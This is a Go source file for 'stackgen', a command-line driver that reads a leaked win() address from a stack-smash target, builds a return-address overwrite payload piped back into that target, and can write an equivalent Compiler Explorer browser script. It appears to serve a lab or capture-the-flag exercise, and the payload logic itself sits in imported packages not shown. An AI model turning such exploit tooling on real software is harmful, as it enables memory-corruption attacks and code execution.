// stackgen builds the exploit payload for the stack-smash target.
//
// It reads the target's win() address leak line from stdin, writes the
// raw payload to stdout (for piping straight back into the target),
// and writes an equivalent Compiler Explorer browser-console script to
// stderr or a file.
//
// Usage examples:
//
//	./stack_overflow "echo pwned" <(./stack_overflow 2>&1 | stackgen)
//
//	./stack_overflow 2>&1 | head -1 | stackgen 2> exploit.js
package main

import (
	"errors"
	"io"
	"os"
	"os/signal"
	"syscall"

	"github.com/akamensky/argparse"

	"gitlab.com/stephen-fox/pwngen/emit"
	"gitlab.com/stephen-fox/pwngen/godbolt"
	"gitlab.com/stephen-fox/pwngen/internal/log"
	"gitlab.com/stephen-fox/pwngen/leak"
	"gitlab.com/stephen-fox/pwngen/pattern"
	"gitlab.com/stephen-fox/pwngen/payload"
)

// Address-parse failures get their own exit status so a wrapper script
// can tell "the leak line was garbage" apart from everything else.
const (
	exitCodeFailure     = 1
	exitCodeParseFailed = 2
)

func main() {
	// Without this, an early-exiting payload consumer kills the
	// process with a fatal SIGPIPE before the EPIPE ever reaches
	// emit.Payload. See emit.IsPipeClosed.
	signal.Ignore(syscall.SIGPIPE)

	parser := argparse.NewParser("stackgen",
		"Builds the return-address overwrite payload for the stack-smash "+
			"target. Reads the win() address leak line from stdin and "+
			"writes the raw payload bytes to stdout.")
	verbose := parser.Flag("v", "verbose", &argparse.Options{
		Help: "Enable debug logging",
	})
	probeLen := parser.Int("p", "probe", &argparse.Options{
		Help: "Emit a probe pattern of this many bytes instead of the " +
			"exploit payload, for re-deriving the return offset",
	})
	scriptPath := parser.String("j", "js", &argparse.Options{
		Help: "Write the Compiler Explorer script to this file instead of stderr",
	})
	noScript := parser.Flag("n", "no-js", &argparse.Options{
		Help: "Do not generate the Compiler Explorer script",
	})

	err := parser.Parse(os.Args)
	if err != nil {
		os.Stderr.WriteString(parser.Usage(err))
		os.Exit(exitCodeFailure)
	}

	log.SetLevelInfo()
	if *verbose {
		log.SetLevelDebug()
	}

	if *probeLen > 0 {
		emitProbe(*probeLen)
		return
	}

	winAddr, err := leak.NewScanner(os.Stdin).NextAddress()
	if err != nil {
		var parseErr *leak.ParseError
		if errors.As(err, &parseErr) {
			log.Log.Error().
				Bytes("line", parseErr.Line).
				Msg("failed to parse win() address")
			os.Exit(exitCodeParseFailed)
		}

		log.Log.Error().Err(err).Msg("failed to read win() address")
		os.Exit(exitCodeFailure)
	}

	log.Log.Debug().
		Str("win", winAddr.HexString()).
		Msg("resolved win() address")

	exploit := payload.StackSmashOrExit(payload.StackSmashConfig{
		WinAddr:   winAddr,
		OptLogger: &log.Log,
	})

	err = emit.Payload(emit.Config{Out: os.Stdout, OptLogger: &log.Log}, exploit)
	if err != nil {
		log.Log.Error().Err(err).Msg("failed to emit payload")
		os.Exit(exitCodeFailure)
	}

	if *noScript {
		return
	}

	scriptDst := io.Writer(os.Stderr)
	if *scriptPath != "" {
		f, err := os.Create(*scriptPath)
		if err != nil {
			log.Log.Error().Err(err).Msg("failed to create script file")
			os.Exit(exitCodeFailure)
		}
		defer f.Close()

		scriptDst = f
	}

	err = godbolt.WriteScript(scriptDst, winAddr, exploit)
	if err != nil {
		log.Log.Error().Err(err).Msg("failed to write Compiler Explorer script")
		os.Exit(exitCodeFailure)
	}
}

func emitProbe(numBytes int) {
	probe, err := pattern.DeBruijn{}.Pattern(numBytes)
	if err != nil {
		log.Log.Error().Err(err).Msg("failed to generate probe pattern")
		os.Exit(exitCodeFailure)
	}

	err = emit.Payload(emit.Config{Out: os.Stdout, OptLogger: &log.Log}, probe)
	if err != nil {
		log.Log.Error().Err(err).Msg("failed to emit probe pattern")
		os.Exit(exitCodeFailure)
	}
}
